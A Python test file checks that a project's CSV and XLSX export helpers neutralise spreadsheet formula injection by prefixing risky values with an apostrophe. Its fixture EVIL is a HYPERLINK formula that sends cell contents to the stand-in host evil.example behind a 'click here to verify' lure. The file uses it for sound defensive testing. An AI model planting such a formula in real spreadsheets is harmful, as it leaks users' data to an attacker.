"""Every exported cell is inert: no value becomes a formula in Excel, WPS or LibreOffice."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from linli.core.exports import csv_writer, safe_cell, xlsx_append

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
EVIL = '=HYPERLINK("http://evil.example/?"&B2&C2,"点此核对")'


@pytest.mark.parametrize("prefix", PREFIXES)
def test_safe_cell_neutralises_every_formula_prefix(prefix):
    value = safe_cell(prefix + "1+2")
    assert isinstance(value, str) and value.startswith("'") and value[1:] == prefix + "1+2"


def test_safe_cell_keeps_ordinary_values():
    assert safe_cell("张三") == "张三" and safe_cell(3) == 3 and safe_cell(None) == "" and safe_cell("138****5678") == "138****5678"


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_strings_never_formulas(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    xlsx_append(ws, [EVIL, "+1", "-1", "@A1", 5])
    out = io.BytesIO()
    wb.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    for cell in row[:4]:
        assert cell.data_type == "s" and not cell.value.startswith(("=", "+", "-", "@"))
    assert row[0].value == "'" + EVIL and row[4].value == 5


def test_csv_cells_are_neutralised():
    out = io.StringIO()
    csv_writer(out).writerow([EVIL, "+1", "-1", "@A1", "ok"])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == ["'" + EVIL, "'+1", "'-1", "'@A1", "ok"]
